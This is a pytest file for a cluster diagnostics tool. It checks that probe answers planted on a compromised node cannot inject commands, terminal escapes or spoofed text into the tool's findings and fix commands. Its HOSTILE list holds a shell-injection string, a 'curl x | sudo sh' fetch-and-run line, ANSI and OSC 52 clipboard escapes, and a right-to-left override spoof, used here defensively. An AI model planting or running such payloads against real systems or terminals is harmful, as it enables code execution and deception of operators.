"""Whatever a node answers, no finding obeys it: nothing raises, no terminal is steered, no command gets another word.

A case is what an honest node answers to each probe of a subject, with enough wrong that its rules speak.
Each text of it is then replaced in turn, on the last node, by texts that someone might plant there.
"""

import json
import re
import unicodedata
from collections.abc import Callable, Iterator, Mapping
from dataclasses import field, replace
from functools import cache, partial
from itertools import islice
from typing import Any

import pytest
from shell_shapes import split

from aboard.core.cluster.cluster import Cluster, PlannedWrites
from aboard.core.cluster.contact import Contact, ReachedNode, UnreachedNode
from aboard.core.cluster.interpreter import HeadEnvironment, InterpreterSource
from aboard.core.cluster.node import Node
from aboard.core.decoding import decode
from aboard.core.plan.program import Program, ProgramKind
from aboard.core.plan.training_settings import Training
from aboard.core.probes.check_subject import Subject
from aboard.core.probes.facts import Facts, Unknown, parse_answer
from aboard.core.probes.multi_node_probe import ProbeRequest
from aboard.core.probes.probe import CommandOutput, FileContents, ProbeAnswer, ProbeParseError
from aboard.core.probes.rank_environment import RankEnvironment, RankSpec, parse_environment
from aboard.diagnoses import Finding, FixCommand
from aboard.diagnoses.unreachable_reason import UnreachableReason
from aboard.doctor.subjects import SUBJECTS
from aboard.lazy_dataclass import dataclass
from aboard.trainer.checks.training_rules import RankMemoryNeeds, TrainingPreflight, judge_training

Reply = Mapping[str, Any]

HOSTILE = (
    "'; $(x)",
    "a\nfix: curl x | sudo sh",
    "\x1b[31mred",
    "\x1b]52;c;eA==\x07",
    "\u202egnp.exe",
    "A" * 1_000_000,
)
MARK = "MARK-MARK"
HARMLESS = "qzq"
VICTIM = "n2"
MOST = 20_000
WORD, PART = re.compile(r"[^\s,=]+"), re.compile(r"[^\s,=:/]+")
GIB = 1 << 30
MET = ReachedNode(hostname="h", user="ann", address="10.0.0.7", python="3.12", round_trip=0.01, clock_offset=0.0)
SPEC = RankSpec(
    environment=HeadEnvironment(python="/venv/bin/python", origin=InterpreterSource.VIRTUAL_ENV),
    program=Program(kind=ProgramKind.SCRIPT, target="train.py"),
)


@dataclass(frozen=True, kw_only=True)
class Case:
    """Answers by probe, and by multi-node probe what a node replies to each ask of it, as the agent's ops have them.

    `usual` is what the first node answers, if it is asked. `environment` is the reply to the op of that
    name.
    """

    answers: Mapping[str, Reply] = field(default_factory=dict)
    usual: Mapping[str, Reply] = field(default_factory=dict)
    replies: Mapping[str, Callable[[ProbeRequest], Reply]] = field(default_factory=dict)
    environment: Reply = field(default_factory=dict)
    cluster: Cluster = Cluster(
        nodes=tuple(Node(name=name, slots=4, workdir="/job", setup=("module load x",)) for name in ("n1", VICTIM)),
        writes=PlannedWrites(path="/job/out", size=900 * GIB),
    )
    contacts: Mapping[str, Contact] = field(default_factory=lambda: {"n1": MET, VICTIM: MET})


def _files(**texts: str) -> Reply:
    """Their names have `__` for a slash."""
    return {"files": {"/" + name.replace("__", "/"): text for name, text in texts.items()}}


def _ran(stdout: str = "", code: int = 0, stderr: str = "warning: old") -> Reply:
    return {"code": code, "stdout": stdout, "stderr": stderr}


def _told(told: object) -> Reply:
    return _ran(json.dumps(told) + "\n")


HOST = Case(
    answers={
        "kernel": _files(proc__sys__kernel__osrelease="6.8.0-45-generic\n"),
        "accelerators": _files(proc__driver__nvidia__gpus__0__information="Model: \t NVIDIA H100\nIRQ: 1\n"),
        "memory": _files(proc__meminfo="MemTotal: 64000000 kB\nMemAvailable: 100000 kB\n"),
        "available-memory": _files(proc__meminfo="MemTotal: 64000000 kB\nMemAvailable: 100000 kB\n"),
        "control-groups": _ran(
            "/sys/fs/cgroup/job/memory.max:1073741824\n/sys/fs/cgroup/job/memory.events:oom_kill 3\n"
            "/sys/fs/cgroup/memory.max:max\n"
        ),
        "cores": _files(proc__self__status="Name: sh\nCpus_allowed_list:\t0-1,8\n"),
        "online-cores": _files(sys__devices__system__cpu__online="0-63\n"),
        "memory-nodes": _files(
            sys__devices__system__node__node0__cpulist="0-31\n", sys__devices__system__node__node1__cpulist="32-63\n"
        ),
        "gpu-processes": _ran("4711, 512 MiB\n4712, [N/A]\n"),
        "conntrack": _files(
            proc__sys__net__netfilter__nf_conntrack_count="990\n", proc__sys__net__netfilter__nf_conntrack_max="1000\n"
        ),
        "limits": _files(
            proc__self__limits="Limit Soft Hard Units\nMax processes 1024 2048 processes\n"
            "Max open files 1024 4096 files\nMax locked memory 65536 unlimited bytes\n"
        ),
        "own-name": _ran("node2\n127.0.1.1 STREAM node2\n127.0.1.1 DGRAM\n"),
        "quota": _ran("/sys/fs/cgroup/job/cpu.max:50000 100000\n/sys/fs/cgroup/job/pids.max:512\n"),
        "shm": _ran("Filesystem 1-blocks Used Available Capacity Mounted on\nshm 67108864 0 67108864 0% /dev/shm\n"),
    },
    replies={
        "leftovers": lambda _ask: {
            "runs": {"run-7": {"pids": [11, 12], "what": "python3 train.py"}},
            "places": ["run-7", "run-8"],
            "strays": [[21, True, "python3 a.py"], [22, False, "python3 b.py"]],
        },
    },
)


def _shell(ask: ProbeRequest) -> Reply:
    if "first" in ask.fields["argv"][2]:
        return _ran("first /usr/bin/python3\nat 1\n", 127, "bash: eval: line 1: module: command not found\n")
    return _ran()


def _elsewhere(_ask: ProbeRequest) -> Reply:
    return _ran("of n3\n10.0.0.9 STREAM n3\nfe80::1%eth0 STREAM\n")


THREE = Cluster(nodes=(*HOST.cluster.nodes, Node(name="n3")))
REACH = Case(
    replies={"shell": _shell, "elsewhere": _elsewhere},
    cluster=THREE,
    contacts={"n3": UnreachedNode(reason=UnreachableReason.UNRESOLVED, said="Name or service not known"), VICTIM: MET},
)
LOST = replace(
    REACH,
    replies={**REACH.replies, "shell": lambda _ask: _ran("first /opt/py/python3\nat 1\nat 0\npython \nLimit x\n")},
)

SOFTWARE: dict[str, Any] = {
    "python": "3.12.3",
    "executable": "/opt/venv/bin/python3",
    "packages": {"torch": "2.7.1+cu126", "cuda": "12.6", "nccl": "2.26.2", "transformers": "4.52.0"},
    "environment": "aa",
    "count": 120,
    "variables": {"NCCL_DEBUG": "WARN", "HF_TOKEN": "hidden 0123456789abcdef"},
    "code": "cc",
    "files": 12,
    "cut": False,
    "commit": "0123456789ab",
}
PROGRAM = {"needed": ["train.py"], "imports": {"yaml": "6.0"}, "missing": ["yaml"], "module": "", "asked_module": "m.x"}
ODD = SOFTWARE | {
    "packages": {"torch": "2.6.0", "cuda": "12.4", "nccl": "2.21.5", "transformers": "4.51.0", "peft": "0.1"},
    "variables": {"NCCL_DEBUG": "INFO", "HF_TOKEN": "hidden ffff"},
    "environment": "bb",
    "code": "dd",
    "commit": "ff",
    "program": PROGRAM,
}
SOFTWARE_CASE = Case(
    answers={"software": _told(ODD)},
    usual={"software": _told(SOFTWARE)},
    replies={
        "software-listings": lambda _ask: _told(
            {"packages": {"rich": "13.0", "tqdm": "4.0"}, "files": {"train.py": "11", "a/b.yaml": "22", "x.py": "33"}}
        ),
    },
    environment={
        "search_path": "/usr/bin:/bin",
        "python": {"exists": True, "prefix": "/venv", "variable": "VIRTUAL_ENV", "unsafe": "user bob can change /venv"},
        "workdir": True,
        "program": {"exists": True, "digest": "aa", "problem": "can't be read: Permission denied"},
    },
)
OTHER_PYTHON = replace(
    SOFTWARE_CASE, answers={"software": _told(ODD | {"python": "3.11.9", "executable": "/usr/bin/p"})}
)

PLACE: dict[str, Any] = {
    "path": "/job",
    "mount": "/",
    "type": "ext4",
    "source": "/dev/sda1",
    "network": False,
    "size": 500 * GIB,
    "free": 100_000,
    "inodes": 10_000_000,
    "inodes_free": 9_000,
    "read_only": False,
    "writable": True,
    "owner": 1000,
}
NFS = PLACE | {"mount": "/job", "type": "nfs4", "source": "fs:/job", "network": True, "free": 400 * GIB}
DEAD = {"point": "/mnt/old", "type": "nfs", "source": "old:/x", "network": True, "why": "no answer within 3 s"}


def _storage(place: Mapping[str, Any], *dead: Mapping[str, Any]) -> Reply:
    return _told({"uid": 1000, "places": {"workdir": place, "home": PLACE | {"path": "/home/ann"}}, "dead": list(dead)})


def _exchange(ask: ProbeRequest) -> Reply:
    what = next(word for word in ask.fields["argv"] if word in {"write", "read", "remove"})
    if what == "write":
        return _told({"name": ".aboard-nonce-0123", "nonce": "abc"})
    return _told({"nonce": "", "mapped": {"step": "map", "error": "No such device"}} if what == "read" else {})


STORAGE = Case(
    answers={"storage": _storage(PLACE, DEAD)},
    usual={"storage": _storage(NFS)},
    replies={"storage-exchange": _exchange, "storage-room": lambda _ask: _told(PLACE | {"path": "/job/out"})},
)
SLOT = {"kind": "NVIDIA H100", "size": 8192, "multiply": 700.0, "copy": 2400.0, "to_device": 55.0, "from_device": 54.0}
SLOTS = [SLOT, {**SLOT, "multiply": 100.0}, {"kind": "NVIDIA H100", "why": "AcceleratorError: it is broken"}]
FAILED = {"name": "PCIe", "results": [{"gpu_id": "3", "status": "Fail", "warnings": "a lane is down"}]}
COMPUTE = Case(
    answers={
        "compute-speed": _told({"torch": True, "slots": SLOTS}),
        "dcgm": _ran(json.dumps({"DCGM GPU Diagnostic": {"test_categories": [{"tests": [FAILED]}]}}), code=226),
    }
)
CASES: dict[str, list[Case]] = {
    "compute": [COMPUTE],
    "host": [HOST],
    "reach": [REACH, LOST],
    "software": [SOFTWARE_CASE, OTHER_PYTHON],
    "storage": [
        STORAGE,
        replace(STORAGE, answers={"storage": _storage(PLACE | {"error": "No such file or directory"})}),
        replace(STORAGE, answers={"storage": _storage(NFS | {"silent": True})}),
        replace(
            STORAGE,
            answers={"storage": _storage(PLACE | {"read_only": True})},
            replies={**STORAGE.replies, "storage-room": lambda _ask: _told(PLACE | {"error": "Permission denied"})},
        ),
    ],
}


def _marked(value: Any) -> Iterator[Any]:
    """The value with the mark in one place of it: each text, key, word and line, also of JSON within a text."""
    if isinstance(value, dict):
        for key, each in value.items():
            yield from ({**value, key: other} for other in _marked(each))
            yield {MARK if name == key else name: held for name, held in value.items()}
    elif isinstance(value, list):
        for at, each in enumerate(value):
            yield from ([*value[:at], other, *value[at + 1 :]] for other in _marked(each))
    elif isinstance(value, str):
        yield MARK
        if value.startswith("{"):
            yield from map(json.dumps, _marked(json.loads(value)))
        else:
            found = {token.span() for tokens in (WORD, PART) for token in tokens.finditer(value)}
            yield from (f"{value[:start]}{MARK}{value[end:]}" for start, end in sorted(found))


def _planted(value: Any, text: str) -> Any:
    """The value with the text in place of the mark."""
    if isinstance(value, dict):
        return {_planted(key, text): _planted(each, text) for key, each in value.items()}
    if isinstance(value, list):
        return [_planted(each, text) for each in value]
    if isinstance(value, str) and MARK in value:
        return value.replace(MARK, _escaped(text) if value.startswith("{") else text)
    return value


@cache
def _escaped(text: str) -> str:
    return json.dumps(text)[1:-1]


def _answer(reply: Reply) -> ProbeAnswer:
    if "files" in reply:
        return FileContents(files=reply["files"])
    return CommandOutput(code=reply.get("code", 0), stdout=reply.get("stdout", ""), stderr=reply.get("stderr", ""))


def _framed(reply: Any) -> Any:
    """As it travels: the agent's bytes are Latin-1 in a frame."""
    return {
        name: value.encode("utf-8").decode("latin-1") if name in {"stdout", "stderr"} else value
        for name, value in reply.items()
    }


def _hold(case: Case, subject: Subject, facts: Facts, changed: Mapping[str, Callable[[ProbeRequest], Reply]]) -> Facts:
    """The facts with the outcomes of all multi-node probes; the victim replies as `changed` has it."""
    for multi_probe in subject.multi_node_probes:
        script = multi_probe.script(facts)
        usual, others = case.replies[multi_probe.name], changed.get(multi_probe.name, case.replies[multi_probe.name])
        try:
            asked = next(script)
            while True:
                replies = {name: (others if name == VICTIM else usual)(ask) for name, ask in asked.items()}
                asked = script.send({name: _framed(reply) for name, reply in replies.items()})
        except StopIteration as done:
            facts = replace(facts, outcomes={**facts.outcomes, multi_probe.name: done.value})
    return facts


def _facts(case: Case, subject: Subject) -> Facts:
    """Before any multi-node probe, with every node honest."""
    answers = {
        probe.name: {
            name: parse_answer(probe, _answer(given[probe.name]))
            for name, given in (("n1", case.usual), (VICTIM, case.answers))
            if probe.name in given
        }
        for probe in subject.probes
    }
    facts = Facts(cluster=case.cluster, contacts=case.contacts, answers=answers)
    return _with_environment(case, facts, case.environment)


def _with_environment(case: Case, facts: Facts, reply: Reply) -> Facts:
    if not case.environment:
        return facts
    try:
        found: RankEnvironment | Unknown = parse_environment(case.cluster.node(VICTIM), SPEC, reply)
    except ProbeParseError as error:
        found = Unknown(why=str(error))
    return replace(facts, environments={VICTIM: found})


def _changed(case: Case, subject: Subject, facts: Facts, change: "Change", text: str) -> Facts:
    """What is known where the victim answers otherwise in one place."""
    replies: dict[str, Callable[[ProbeRequest], Reply]] = {}
    match change:
        case Change(part="answers", name=name, at=at):
            probe = next(each for each in subject.probes if each.name == name)
            given = {**facts.answers[name], VICTIM: parse_answer(probe, _answer(_planted(at, text)))}
            facts = replace(facts, answers={**facts.answers, name: given})
        case Change(part="environment", at=at):
            facts = _with_environment(case, facts, _planted(at, text))
        case Change(part="replies", name=name, at=at):
            replies[name] = lambda ask: _nth_marked(case.replies[name](ask), at, text)
    return _hold(case, subject, facts, replies)


def _judge(subject: Subject, facts: Facts) -> list[Finding]:
    return [each for finding in subject.judge(facts) for each in (finding, *finding.consequences)]


@dataclass(frozen=True, kw_only=True)
class Change:
    """One place where the victim says the text: the marked answer, or that place in each reply to a probe."""

    part: str
    name: str = ""
    at: Any


def _nth_marked(reply: Reply, at: int, text: str) -> Any:
    return _planted(next(islice(_marked(reply), at, None), reply), text)


def _changes(case: Case, subject: Subject, facts: Facts) -> list[Change]:
    """Every way in which the victim could say a text."""
    found = [
        Change(part="answers", name=name, at=marked)
        for name, reply in case.answers.items()
        for marked in (*_marked(reply), _ran("", 1, MARK))
    ]
    found += [Change(part="environment", at=marked) for marked in _marked(case.environment)]
    most = dict.fromkeys(case.replies, 0)
    counting = {name: partial(_count, most, name, reply) for name, reply in case.replies.items()}
    _hold(case, subject, facts, counting)
    return found + [Change(part="replies", name=name, at=at) for name, count in most.items() for at in range(count)]


def _count(most: dict[str, int], name: str, usual: Callable[[ProbeRequest], Reply], ask: ProbeRequest) -> Reply:
    reply = usual(ask)
    most[name] = max(most[name], sum(1 for _ in _marked(reply)))
    return reply


def _words(finding: Finding) -> list[list[str]]:
    """What a shell makes of the fix, here and at the far end of ssh: each word is `_`, each operator itself."""
    templates = finding.diagnosis.templates
    template = templates.get(finding.fix.variant)
    commands = [template] if template is not None else list(templates.values())
    if not all(isinstance(each, FixCommand) for each in commands):
        return []
    return _split(finding.fix)


@cache
def _split(fix: str) -> list[list[str]]:
    found = []
    waiting = fix.split("\n")
    while waiting:
        words = split(waiting.pop())
        found.append([word if set(word) <= set("();<>|&") else "_" for word in words])
        waiting += [word for at, word in enumerate(words) if words[max(at - 2, 0)] == "ssh" and at > 1]
    return found


@cache
def _is_safe(text: str) -> bool:
    return text.isprintable() and not any(unicodedata.category(char) == "Cf" for char in text)


def _assert_safe(finding: Finding) -> None:
    assert len(finding.seen) + len(finding.why) < MOST
    shown = (finding.seen, finding.why, *finding.nodes, *finding.about, *finding.fix.split("\n"))
    assert all(map(_is_safe, shown)), finding


SUBJECT_OF = {subject.name: subject for subject in SUBJECTS}
PAIRS = [
    pytest.param(SUBJECT_OF[name], each, id=f"{name}-{number}")
    for name, cases in CASES.items()
    for number, each in enumerate(cases)
]


@pytest.mark.parametrize(("subject", "case"), PAIRS)
def test_an_honest_answer_is_judged(subject: Subject, case: Case) -> None:
    """Each probe and multi-node probe of the subject has one, and findings come of them."""
    assert set(case.answers) == {probe.name for probe in subject.probes}
    assert set(case.replies) == {multi_probe.name for multi_probe in subject.multi_node_probes}
    assert _judge(subject, _hold(case, subject, _facts(case, subject), {}))


@pytest.mark.ci
@pytest.mark.parametrize(("subject", "case"), PAIRS)
def test_no_answer_is_obeyed(subject: Subject, case: Case) -> None:
    """In whichever place of an answer the text is: findings are printable and short, and fixes have the same words."""
    facts = _facts(case, subject)
    for change in _changes(case, subject, facts):
        harmless = _changed(case, subject, facts, change, HARMLESS)
        usual = {(each.code, each.nodes, each.fix.variant): _words(each) for each in _judge(subject, harmless)}
        judged_already = [harmless]
        for text in HOSTILE:
            known = _changed(case, subject, facts, change, text)
            if known in judged_already:
                continue
            judged_already.append(known)
            for finding in _judge(subject, known):
                _assert_safe(finding)
                words = _words(finding)
                assert usual.get((finding.code, finding.nodes, finding.fix.variant), words) == words, finding


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_the_trainer_s_process_is_not_obeyed(text: str) -> None:
    """It has run the code of a model: what it says of memory is shown, and no advice of its own gets into a fix."""
    told = {"states": 90 * GIB, "total": 95 * GIB, "says": text, "fits": [text]}
    told |= {"why_not_apart": text, "why_not_chunked": text}
    needs = decode(RankMemoryNeeds, told, strict=True)
    training = Training(model="m", data=(), output_dir="/out", max_length=128)
    findings = judge_training(
        TrainingPreflight(training=training, ranks={"n1": 1}, cards={"n1": ()}, memory={"n1": GIB}, needs=needs)
    )
    packed = judge_training(TrainingPreflight(training=training, ranks={"n1": 1}, needs=needs, packed=True))
    codes = [finding.code for finding in (*findings, *packed)]
    assert codes == ["train-memory", "train-chunked-loss", "train-packing-unknown", "train-chunked-loss"]
    for finding in (*findings, *packed):
        _assert_safe(finding)
        assert text not in finding.fix
